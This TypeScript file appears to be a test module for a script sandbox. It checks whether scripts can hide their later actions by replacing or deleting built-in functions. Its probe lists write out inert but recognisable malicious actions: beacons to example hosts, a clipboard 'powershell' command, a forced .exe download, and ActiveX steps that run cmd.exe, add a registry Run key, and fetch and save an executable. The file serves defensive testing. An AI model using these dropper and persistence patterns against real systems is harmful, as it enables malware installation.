/** A script replaces what it finds built in, so that the record of what it does next is lost, changed, or never made. */
import { shareOf } from '../share.ts';
import type { AttackClass, Attempt } from './attack-class.ts';
import { type BuiltIn, builtIns } from './built-ins.ts';
import { actsOf, runScript } from './sandbox-run.ts';

/** What stands in the place of the built-in. None of them is an error of a script: each goes on. */
const WAYS = {
  throws: () => "function () { throw new Error('emulated answer, nothing was fetched') }",
  nothing: () => 'function () { return undefined }',
  lies: () =>
    "function () { return { length: 0, value: 'inert', done: true, toString: function () { return 'https://www.example.org/' } } }",
  deletes: () => null,
} as const;
type Way = keyof typeof WAYS;

/** Each by itself, so that one that no longer works takes no other with it; none needs a built-in that scripts can replace. */
const PAGE_ACTS = [
  "location.href = 'https://one.example/a'",
  "navigator.sendBeacon('https://two.example/b', 'c')",
  `document.write('<img src="https://three.example/c">')`,
  "navigator.clipboard.writeText('powershell -c inert')",
  "var a = document.createElement('a'); a.href = 'data:application/octet-stream,MZ inert'; a.download = 'a.exe'; a.click()",
  "var f = document.createElement('iframe'); f.src = 'https://four.example/d'; document.body.appendChild(f)",
  "setTimeout(function () { window.open('https://five.example/e') }, 9)",
  "var i = new Image(); i.src = 'https://six.example/f'; document.body.appendChild(i)",
];
const HOST_ACTS = [
  "new ActiveXObject('WScript.Shell').Run('cmd.exe /c echo inert', 0)",
  "new ActiveXObject('WScript.Shell').RegWrite('HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run\\\\u', 'inert')",
  "var t = new ActiveXObject('Scripting.FileSystemObject').CreateTextFile('C:\\\\u.vbs'); t.Write('inert'); t.Close()",
  "var x = new ActiveXObject('MSXML2.XMLHTTP'); x.open('GET', 'http://one.example/a.exe', false); x.send()",
  "var s = new ActiveXObject('ADODB.Stream'); s.Type = 1; s.Open(); s.Write(x.responseBody); s.SaveToFile('C:\\\\b.exe', 2)",
  "GetObject('winmgmts:root\\\\cimv2:Win32_Process').Create('calc.exe')",
];

const KINDS = {
  page: { name: 'a.html', acts: PAGE_ACTS, wrap: (code: string) => `<script>${code}</script>` },
  host: { name: 'a.js', acts: HOST_ACTS, wrap: (code: string) => code },
} as const;
type Kind = keyof typeof KINDS;

/** As newer and as older scripts can: each of them where it works. */
function replacement({ owner, key, isAccessor }: BuiltIn, way: Way): string {
  const by = WAYS[way]();
  if (by === null) return `try { delete ${owner}[${key}] } catch (e) {}`;
  const descriptor = isAccessor ? `{ get: ${by}, configurable: true }` : `{ value: ${by}, configurable: true }`;
  return `try { Object.defineProperty(${owner}, ${key}, ${descriptor}) } catch (e) { try { ${owner}[${key}] = ${by} } catch (e) {} }`;
}

const scriptOf = (kind: Kind, before: string): string =>
  KINDS[kind].wrap(`${before};${KINDS[kind].acts.map((act) => `try { ${act} } catch (e) {}`).join(';')}`);

/** With ATTACK_ALL=1 every built-in is replaced in every way in both programs, which takes minutes. */
const isAll = process.env.ATTACK_ALL === '1';
/** Otherwise each in one way in a page, and this part of them in a script for Windows, which runs four times. */
const HOST_SHARE = 8;

async function* attempts(): AsyncGenerator<Attempt> {
  const all = await builtIns();
  const ways = Object.keys(WAYS) as Way[];
  for (const kind of Object.keys(KINDS) as Kind[]) {
    const untouched = actsOf(await runScript(KINDS[kind].name, scriptOf(kind, '')));
    for (const [index, builtIn] of [...shareOf(all)].entries()) {
      if (!isAll && kind === 'host' && index % HOST_SHARE !== 0) continue;
      const chosen = isAll
        ? ways
        : ways.filter((_, at) => at === Math.floor(index / (kind === 'host' ? HOST_SHARE : 1)) % ways.length);
      for (const way of chosen) yield await attempt(kind, builtIn, way, untouched);
    }
  }
}

async function attempt(kind: Kind, builtIn: BuiltIn, way: Way, untouched: ReadonlySet<string>): Promise<Attempt> {
  const report = await runScript(KINDS[kind].name, scriptOf(kind, replacement(builtIn, way)));
  const acts = actsOf(report);
  const lost = [...untouched].filter((act) => !acts.has(act));
  const id = `${kind}: ${builtIn.owner}[${builtIn.key}] ${way}`;
  return { id, ended: report.level, won: lost.length > 0 ? `not in the record: ${lost.join(', ')}` : null };
}

export const sandboxBlinding: AttackClass = {
  name: 'sandbox-blinding',
  title: 'a script blinds the sandbox by what it does to the built-ins',
  attempts,
};
